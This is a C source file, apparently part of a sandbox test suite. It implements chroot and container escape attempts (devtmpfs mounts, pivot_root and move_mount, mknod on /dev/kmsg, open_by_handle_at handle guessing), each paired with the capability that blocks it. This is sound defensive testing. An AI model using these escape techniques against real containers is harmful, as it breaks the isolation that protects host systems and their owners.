// SPDX-License-Identifier: GPL-2.0
/*
 * What takes another privilege than chroot: mounts, devices, file handles.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "escape.h"

/* <sys/mount.h> and <linux/mount.h> do not go together everywhere. */
#define MOUNT_BIND	4096

static int sys_mount(const char *source, const char *target, const char *type,
		     unsigned long flags)
{
	return syscall(SYS_mount, source, target, type, flags, NULL);
}

/* It is the same file system wherever it is mounted: there is a marker in it. */
static void mount_devtmpfs(void)
{
	sys_mount("devtmpfs", "/x", "devtmpfs", 0);
	must(chdir("/x") == 0);
	look(AT_FDCWD);
}

static void fsopen_devtmpfs(void)
{
	const int context = syscall(SYS_fsopen, "devtmpfs", 0);

	if (context < 0 && errno == ENOSYS)
		unavailable("fsopen: %s", strerror(errno));
	syscall(SYS_fsconfig, context, FSCONFIG_CMD_CREATE, NULL, NULL, 0);
	look(syscall(SYS_fsmount, context, 0, 0));
}

/* The old root would lie beneath the new one. */
static void pivot(void)
{
	sys_mount("/d", "/d", NULL, MOUNT_BIND);
	syscall(SYS_pivot_root, "/d", "/d/e");
	syscall(SYS_move_mount, syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE), "",
		AT_FDCWD, "/x", MOVE_MOUNT_F_EMPTY_PATH);
	look(AT_FDCWD);
	look(open_directory("/"));
}

/* -- devices ---------------------------------------------------------------------------- */

static void tell_kernel_log(void)
{
	char text[128];
	const int length = snprintf(text, sizeof(text), "<6>guest: escape: %s", token);
	int fd = open("/dev/kmsg", O_WRONLY | O_CLOEXEC);

	must(fd >= 0 && write(fd, text, length) == length);
	close(fd);
}

static void device_node(void)
{
	char record[8192];
	ssize_t n;
	int fd;

	mknod("/log", S_IFCHR | 0600, makedev(1, 11));
	fd = open("/log", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	/* EPIPE: that record is gone, the next one is not. */
	while (fd >= 0 && ((n = read(fd, record, sizeof(record) - 1)) > 0 || errno == EPIPE)) {
		record[n > 0 ? n : 0] = '\0';
		if (strstr(record, token))
			got_out();
	}
}

/* -- file handles ------------------------------------------------------------------------- */

static struct {
	struct file_handle handle;
	unsigned char space[MAX_HANDLE_SZ];
} guess;

/* A real attacker counts through them, it is a small number. */
static void guess_handle(void)
{
	int mount;

	guess.handle.handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, top, &guess.handle, &mount, 0))
		unavailable("name_to_handle_at: %s", strerror(errno));
}

static void open_handle(void)
{
	look(open_by_handle_at(open_directory("/"), &guess.handle, O_PATH | O_DIRECTORY));
}

const struct technique mount_techniques[] = {
	{ "mount of a file system that is in use outside", .attack = mount_devtmpfs,
	  .control = CAP(SYS_ADMIN), .nested = HELD },
	{ "fsopen, fsmount of a file system that is in use outside", .attack = fsopen_devtmpfs,
	  .control = CAP(SYS_ADMIN), .nested = HELD },
	{ "bind mount, pivot_root, open_tree, move_mount", .attack = pivot,
	  .no_control = "(nobody: they lead no further out)", .nested = HELD },
	{ "mknod of the kernel log's device", .prepare = tell_kernel_log,
	  .attack = device_node, .control = CAP(MKNOD) | CAP(SYSLOG), .nested = HELD },
	{ "open_by_handle_at", .prepare = guess_handle, .attack = open_handle,
	  .control = CAP(DAC_READ_SEARCH), .nested = HELD },
	{ 0 }
};
